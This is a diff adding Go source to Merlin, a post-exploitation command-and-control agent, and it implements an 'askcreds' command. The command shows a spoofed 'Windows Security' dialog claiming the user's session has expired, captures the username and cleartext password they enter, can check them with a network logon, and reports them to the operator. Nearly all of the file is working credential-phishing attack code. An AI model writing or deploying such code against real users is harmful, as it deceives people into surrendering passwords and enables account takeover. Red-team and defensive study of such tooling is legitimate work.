@@ -0,0 +1,74 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"strings"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+const (
+	// defaultCredCaption is the prompt's title when one is not provided
+	defaultCredCaption = "Windows Security"
+	// defaultCredMessage is the prompt's text when one is not provided
+	defaultCredMessage = "Your session has expired. Enter your password to continue."
+)
+
+// AskCreds displays an operating system credential prompt in the user's session and returns what was entered. The
+// agent must run in the user's desktop session for the prompt to be seen. On Windows the credentials can be checked
+// with a network logon before they are returned
+// askcreds [caption] [message] [verify]
+func AskCreds(cmd jobs.Command) (results jobs.Results) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering AskCreds() with %+v", cmd))
+	}
+	caption, message := defaultCredCaption, defaultCredMessage
+	if len(cmd.Args) > 0 && cmd.Args[0] != "" {
+		caption = cmd.Args[0]
+	}
+	if len(cmd.Args) > 1 && cmd.Args[1] != "" {
+		message = cmd.Args[1]
+	}
+	verify := len(cmd.Args) > 2 && strings.EqualFold(cmd.Args[2], "verify")
+
+	user, domain, password, err := promptCredentials(caption, message)
+	if err != nil {
+		results.Stderr = fmt.Sprintf("there was an error prompting for credentials: %s", err)
+		return
+	}
+	account := user
+	if domain != "" {
+		account = domain + "\\" + user
+	}
+	results.Stdout = fmt.Sprintf("User: %s\nPassword: %s\n", account, password)
+	if verify {
+		if err = verifyCredentials(user, domain, password); err != nil {
+			results.Stdout += fmt.Sprintf("Verified: false (%s)\n", err)
+		} else {
+			results.Stdout += "Verified: true\n"
+		}
+	}
+	return
+}